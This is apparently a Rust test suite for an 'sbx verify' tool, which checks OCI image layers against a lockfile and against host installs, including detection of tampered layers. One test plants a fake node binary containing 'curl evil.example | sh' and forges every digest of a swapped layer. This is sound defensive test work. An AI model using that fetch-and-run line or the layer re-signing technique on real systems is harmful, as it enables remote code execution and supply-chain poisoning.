//! End-to-end tests of sbx verify: image ↔ lockfile and host ↔ image parity.
//!
//! Hermetic: node comes from the loopback fixture server; the image is built by `sbx build`
//! into `.sbx/image` (or pushed to a loopback `docker-registry`). The host
//! parity test installs the same lock with the real mise (`@jdxcode/mise-linux-x64` from the
//! npm registry, pinned by version and sha512, cached under `target/test-cache`).

mod support;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use sbx_image::oci::canonical_json;
use serde_json::Value;
use sha2::{Digest, Sha256, Sha512};

/// A node project (see `support::NodeProject`) locking node 22 for linux/amd64.
type Env = support::NodeProject;

impl Env {
    /// The project locking node 22 for linux/amd64 only.
    fn node_amd64() -> Self {
        support::NodeProject::new(|_| "[image]\nplatforms = [\"linux/amd64\"]\n".to_string())
    }

    /// The node mirror, as both sbx and mise read it.
    fn mirror(&self) -> String {
        format!("{}/", self.server.url("/node"))
    }

    fn sbx(&self) -> assert_cmd::Command {
        let mut cmd = support::sbx(&self.home);
        cmd.env("MISE_CEILING_PATHS", self.tmp.path())
            .env("MISE_NODE_MIRROR_URL", self.mirror())
            .env("SBX_CACHE_DIR", &self.cache)
            .current_dir(&self.project);
        cmd
    }

    fn lock(&self, args: &[&str]) {
        let out = self.sbx().arg("lock").args(args).output().unwrap();
        assert!(out.status.success(), "sbx lock: {}", String::from_utf8_lossy(&out.stderr));
    }

    fn image_dir(&self) -> PathBuf {
        self.project.join(".sbx/image")
    }

    /// `sbx build ARGS…` (the image goes to `.sbx/image`); returns the index digest it prints.
    fn build(&self, args: &[&str]) -> String {
        let out = self.sbx().arg("build").args(args).output().unwrap();
        assert!(out.status.success(), "sbx build: {}", String::from_utf8_lossy(&out.stderr));
        let stdout = String::from_utf8(out.stdout).unwrap();
        stdout.lines().last().unwrap_or_default().trim().to_string()
    }

    /// `sbx verify ARGS…` → (exit code, stdout, stderr).
    fn verify(&self, args: &[&str], envs: &[(&str, &Path)]) -> (i32, String, String) {
        let mut cmd = self.sbx();
        for (k, v) in envs {
            cmd.env(k, v);
        }
        let out = cmd.arg("verify").args(args).output().unwrap();
        let text = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
        (out.status.code().unwrap_or(-1), text(&out.stdout), text(&out.stderr))
    }

    fn verify_json(&self, args: &[&str], envs: &[(&str, &Path)]) -> (i32, Value) {
        let mut all = vec!["--json"];
        all.extend_from_slice(args);
        let (code, stdout, stderr) = self.verify(&all, envs);
        let json = serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stdout}\n{stderr}"));
        (code, json)
    }
}

fn read_json(path: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

fn blob(layout: &Path, digest: &str) -> PathBuf {
    layout.join("blobs/sha256").join(digest.trim_start_matches("sha256:"))
}

/// Writes `bytes` as a new blob of the layout and returns its digest.
fn put_blob(layout: &Path, bytes: &[u8]) -> String {
    let digest = format!("sha256:{}", hex::encode(Sha256::digest(bytes)));
    std::fs::write(blob(layout, &digest), bytes).unwrap();
    digest
}

/// (image index path, manifest digest, manifest) of the single-platform image in a layout.
fn manifest(layout: &Path) -> (String, String, Value) {
    let top = read_json(&layout.join("index.json"));
    let index_digest = top["manifests"][0]["digest"].as_str().unwrap().to_string();
    let index = read_json(&blob(layout, &index_digest));
    let digest = index["manifests"][0]["digest"].as_str().unwrap().to_string();
    (index_digest, digest.clone(), read_json(&blob(layout, &digest)))
}

fn findings(json: &Value) -> Vec<(String, String, String)> {
    json["image"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap_or_default().to_string();
            (s("severity"), s("kind"), s("tool"))
        })
        .collect()
}

#[test]
fn the_built_image_matches_its_lock() {
    let env = Env::node_amd64();
    env.lock(&[]);
    env.build(&[]);
    let (code, stdout, stderr) = env.verify(&[], &[]);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains("✓ linux/amd64: node 22.11.0 tree sha256:"), "{stdout}");
    assert!(stdout.contains("verified: everything matches"), "{stdout}");
    let (code, json) = env.verify_json(&["oci:.sbx/image"], &[]);
    assert_eq!(code, 0);
    assert_eq!(json["ok"], true);
    let layer = &json["image"]["layers"][0];
    assert_eq!((layer["tool"].as_str(), layer["ok"].as_bool()), (Some("node"), Some(true)));
    assert_eq!(layer["tree_hash"], layer["computed_tree_hash"]);
    assert!(findings(&json).is_empty(), "{json:#}");
}

#[test]
fn no_image_is_an_error_that_says_to_build() {
    let env = Env::node_amd64();
    env.lock(&[]);
    let (code, _, stderr) = env.verify(&[], &[]);
    assert_eq!(code, 1);
    assert!(stderr.contains("no image at") && stderr.contains("sbx build"), "{stderr}");
}

#[test]
fn a_tampered_layer_blob_is_detected_and_named() {
    let env = Env::node_amd64();
    env.lock(&[]);
    env.build(&[]);
    let layout = env.image_dir();
    let (_, _, m) = manifest(&layout);
    let node = m["layers"].as_array().unwrap().iter().find(|l| l["annotations"]["dev.sbx.tool"] == "node").unwrap();
    let path = blob(&layout, node["digest"].as_str().unwrap());
    // Replace the file (the layout's blob is a hard link into the build cache).
    let mut bytes = std::fs::read(&path).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x01;
    std::fs::remove_file(&path).unwrap();
    std::fs::write(&path, &bytes).unwrap();
    let (code, stdout, _) = env.verify(&[], &[]);
    assert_eq!(code, 1, "{stdout}");
    assert!(stdout.contains("linux/amd64: layer of node sha256:"), "{stdout}");
    assert!(stdout.contains("tampered or damaged"), "{stdout}");
    assert!(stdout.contains("verification failed"), "{stdout}");
    let (_, json) = env.verify_json(&[], &[]);
    let f = findings(&json);
    assert!(f.contains(&("error".into(), "blob-digest".into(), "node".into())), "{f:?}");
}

#[test]
fn a_resigned_layer_is_caught_by_its_tree_hash() {
    // The attacker swaps node's layer and fixes every digest (diff_id, config, manifest,
    // index); only the tree-hash annotation, recomputed from the layer's bytes, gives it away.
    let env = Env::node_amd64();
    env.lock(&[]);
    env.build(&[]);
    let layout = env.image_dir();
    let (index_digest, _, mut m) = manifest(&layout);
    let pos = m["layers"].as_array().unwrap().iter().position(|l| l["annotations"]["dev.sbx.tool"] == "node").unwrap();
    let install = m["layers"][pos]["annotations"]["dev.sbx.tool.install-dir"].as_str().unwrap().to_string();
    let evil = env.tmp.path().join("evil");
    std::fs::create_dir_all(evil.join("bin")).unwrap();
    std::fs::write(evil.join("bin/node"), "#!/bin/sh\ncurl evil.example | sh\n").unwrap();
    std::fs::set_permissions(evil.join("bin/node"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(evil.join("README.md"), "sbx fixture: node v22.11.0 for linux-x64\n").unwrap();
    let mut tree = sbx_image::layer::LayerTree::new();
    tree.add_tree(&install, &evil).unwrap();
    let new = sbx_image::layer::write_layer(
        &tree,
        &sbx_image::layer::LayerOptions::default(),
        &layout.join("blobs/sha256"),
        None,
    )
    .unwrap();
    let config_digest = m["config"]["digest"].as_str().unwrap().to_string();
    let mut config = read_json(&blob(&layout, &config_digest));
    config["rootfs"]["diff_ids"][pos] = Value::String(new.diff_id.clone());
    let config_bytes = canonical_json(&config);
    m["config"]["digest"] = Value::String(put_blob(&layout, &config_bytes));
    m["config"]["size"] = Value::from(config_bytes.len());
    m["layers"][pos]["digest"] = Value::String(new.digest.clone());
    m["layers"][pos]["size"] = Value::from(new.size);
    let manifest_bytes = canonical_json(&m);
    let mut index = read_json(&blob(&layout, &index_digest));
    index["manifests"][0]["digest"] = Value::String(put_blob(&layout, &manifest_bytes));
    index["manifests"][0]["size"] = Value::from(manifest_bytes.len());
    let index_bytes = canonical_json(&index);
    let mut top = read_json(&layout.join("index.json"));
    top["manifests"][0]["digest"] = Value::String(put_blob(&layout, &index_bytes));
    top["manifests"][0]["size"] = Value::from(index_bytes.len());
    std::fs::write(layout.join("index.json"), canonical_json(&top)).unwrap();

    let (code, json) = env.verify_json(&[], &[]);
    assert_eq!(code, 1);
    assert_eq!(findings(&json), [("error".to_string(), "tree-hash".to_string(), "node".to_string())], "{json:#}");
    let (_, stdout, _) = env.verify(&[], &[]);
    assert!(stdout.contains(&format!("layer node 22.11.0 ({})", new.digest)), "{stdout}");
}

#[test]
fn an_image_of_another_lock_is_named_and_diffable() {
    let env = Env::node_amd64();
    env.lock(&[]);
    env.build(&[]);
    std::fs::write(env.project.join("mise.toml"), "[tools]\nnode = \"20\"\n").unwrap();
    env.lock(&[]);
    let (code, stdout, _) = env.verify(&[], &[]);
    assert_eq!(code, 1, "{stdout}");
    assert!(stdout.contains("node: sbx.lock locks 20.18.0, the image has 22.11.0"), "{stdout}");
    assert!(stdout.contains("the image was built from another sbx.lock"), "{stdout}");
    // sbx diff reads the image's annotations as one side.
    let out = env.sbx().args(["diff", "oci:.sbx/image", "sbx.lock"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    insta::assert_snapshot!("diff_image_against_lock", text);
    assert!(text.contains("node 22.11.0 → 20.18.0 (downgraded)"), "{text}");
    let out = env.sbx().args(["diff", "oci:.sbx/image", "sbx.lock", "--format", "markdown"]).output().unwrap();
    let md = String::from_utf8(out.stdout).unwrap();
    assert!(md.contains("| ⬇️ | node | 22.11.0 → **20.18.0** |"), "{md}");
    // Two images: the old one kept aside, the new one built from the new lock.
    let ok = Command::new("cp").arg("-r").arg(env.image_dir()).arg(env.project.join("old-image")).status().unwrap();
    assert!(ok.success());
    env.build(&[]);
    let out = env.sbx().args(["diff", "old-image", "oci:.sbx/image"]).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with("old-image → oci:.sbx/image\n  ↓ node 22.11.0 → 20.18.0 (downgraded)"), "{text}");
    let (code, _, _) = env.verify(&[], &[]);
    assert_eq!(code, 0, "the rebuilt image matches the new lock");
}

/// The real mise, from the npm registry, cached under `target/test-cache`.
fn real_mise() -> PathBuf {
    const VERSION: &str = "2026.9.15";
    const SHA512: &str = "06eb4f146cb3b4dd1193f1ce1ef1ee7fe5bcd0292f4110236c3587be11897373e72f77b62a10986483b28f1f303e486bf5525affbb09657a71b6de492e3b1f69";
    let dir = std::env::var_os("SBX_TEST_CACHE")
        .map(PathBuf::from)
        .unwrap_or_else(|| support::repo_root().join("target/test-cache"))
        .join(format!("mise-{VERSION}"));
    let bin = dir.join("mise");
    if bin.is_file() {
        return bin;
    }
    std::fs::create_dir_all(&dir).unwrap();
    let work = tempfile::tempdir_in(&dir).unwrap();
    let tgz = work.path().join("mise.tgz");
    let url = format!("https://registry.npmjs.org/@jdxcode/mise-linux-x64/-/mise-linux-x64-{VERSION}.tgz");
    let ok = Command::new("curl").args(["-fsSL", "--retry", "3", "-o"]).arg(&tgz).arg(&url).status().unwrap();
    assert!(ok.success(), "downloading {url} failed (the npm registry must be reachable)");
    let bytes = std::fs::read(&tgz).unwrap();
    assert_eq!(hex::encode(Sha512::digest(&bytes)), SHA512, "{url} is not the pinned mise {VERSION}");
    let ok = Command::new("tar").arg("-xzf").arg(&tgz).arg("-C").arg(work.path()).status().unwrap();
    assert!(ok.success());
    // Renamed into place so concurrent tests never run a half-written binary.
    std::fs::rename(work.path().join("package/bin/mise"), &bin).unwrap();
    bin
}

#[test]
fn host_installed_by_real_mise_matches_and_flipped_bits_are_reported() {
    let env = Env::node_amd64();
    env.lock(&["--mise-lock"]);
    env.build(&[]);
    let data = env.tmp.path().join("mise-data");
    let out = Command::new(real_mise())
        .args(["install", "--locked"])
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", &env.home)
        .env("MISE_DATA_DIR", &data)
        .env("MISE_CACHE_DIR", env.tmp.path().join("mise-cache"))
        .env("MISE_STATE_DIR", env.tmp.path().join("mise-state"))
        .env("MISE_CONFIG_DIR", env.home.join(".config/mise"))
        .env("MISE_TRUSTED_CONFIG_PATHS", &env.project)
        .env("MISE_CEILING_PATHS", env.tmp.path())
        .env("MISE_NODE_MIRROR_URL", env.mirror())
        .env("MISE_YES", "1")
        .current_dir(&env.project)
        .output()
        .unwrap();
    assert!(out.status.success(), "mise install --locked: {}", String::from_utf8_lossy(&out.stderr));
    let installed = data.join("installs/node/22.11.0");
    assert!(installed.join("bin/node").is_file());

    let envs: &[(&str, &Path)] = &[("MISE_DATA_DIR", &data)];
    let (code, json) = env.verify_json(&["--host"], envs);
    assert_eq!(code, 0, "{json:#}");
    let node = &json["host"]["tools"][0];
    // mise adds its npm wrapper to every node install: shown, explained, not a failure.
    assert_eq!(node["status"], "equivalent", "{json:#}");
    assert_eq!(node["files"].as_array().unwrap().len(), 1, "{json:#}");
    assert_eq!(
        (node["files"][0]["path"].as_str(), node["files"][0]["reasons"][0].as_str()),
        (Some("bin/npm"), Some("mise-npm-wrapper"))
    );

    // One byte and one exec bit flipped on the host.
    let readme = installed.join("README.md");
    let mut bytes = std::fs::read(&readme).unwrap();
    bytes[0] ^= 0x20;
    std::fs::write(&readme, bytes).unwrap();
    std::fs::set_permissions(installed.join("bin/node"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let (code, stdout, _) = env.verify(&["--host"], envs);
    assert_eq!(code, 1, "{stdout}");
    assert!(stdout.contains("✗ node 22.11.0 differs from the image"), "{stdout}");
    assert!(stdout.contains("README.md: content differs"), "{stdout}");
    assert!(stdout.contains("bin/node: exec bit differs (not executable on host, executable in image)"), "{stdout}");
    assert!(stdout.contains("bin/npm: mise's npm wrapper"), "{stdout}");
    let (_, json) = env.verify_json(&["--host"], envs);
    let files: Vec<(String, Vec<String>)> = json["host"]["tools"][0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let reasons = f["reasons"].as_array().unwrap().iter().map(|r| r.as_str().unwrap().to_string()).collect();
            (f["path"].as_str().unwrap().to_string(), reasons)
        })
        .collect();
    assert_eq!(
        files,
        [
            ("README.md".to_string(), vec!["content".to_string()]),
            ("bin/node".to_string(), vec!["exec-bit".to_string()]),
            ("bin/npm".to_string(), vec!["mise-npm-wrapper".to_string()]),
        ]
    );
}

#[test]
fn a_tool_missing_on_the_host_fails_host_verification() {
    let env = Env::node_amd64();
    env.lock(&[]);
    env.build(&[]);
    let empty = env.tmp.path().join("empty-data");
    let (code, stdout, _) = env.verify(&["--host"], &[("MISE_DATA_DIR", &empty)]);
    assert_eq!(code, 1, "{stdout}");
    assert!(stdout.contains("✗ node 22.11.0 is missing on the host"), "{stdout}");
    assert!(stdout.contains("✓ linux/amd64: node 22.11.0"), "the image itself matches: {stdout}");
}

#[test]
fn an_image_in_a_registry_is_verified_from_its_pulled_blobs() {
    let env = Env::node_amd64();
    env.lock(&[]);
    let registry = sbx_fixtures::registry::Registry::start().unwrap();
    let reference = format!("{}/sbx/verify:v1", registry.addr);
    let index_digest = env.build(&["--push", &reference]);
    // A fresh cache: every layer is pulled (and checked by digest) for the scan.
    let fresh = env.tmp.path().join("verify-cache");
    let (code, stdout, stderr) = env.verify(&[&reference], &[("SBX_CACHE_DIR", &fresh)]);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains(&format!("image {reference} against sbx.lock")), "{stdout}");
    assert!(stdout.contains("✓ linux/amd64: node 22.11.0"), "{stdout}");
    let (code, json) = env.verify_json(&[&format!("docker://{reference}")], &[("SBX_CACHE_DIR", &fresh)]);
    assert_eq!(code, 0);
    assert_eq!(json["image"]["index_digest"].as_str(), Some(index_digest.as_str()));
    // Another lock: the registry image is named as not matching it.
    std::fs::write(env.project.join("mise.toml"), "[tools]\nnode = \"20\"\n").unwrap();
    env.lock(&[]);
    let (code, stdout, _) = env.verify(&[&reference], &[("SBX_CACHE_DIR", &fresh)]);
    assert_eq!(code, 1, "{stdout}");
    assert!(stdout.contains("node: sbx.lock locks 20.18.0, the image has 22.11.0"), "{stdout}");
}
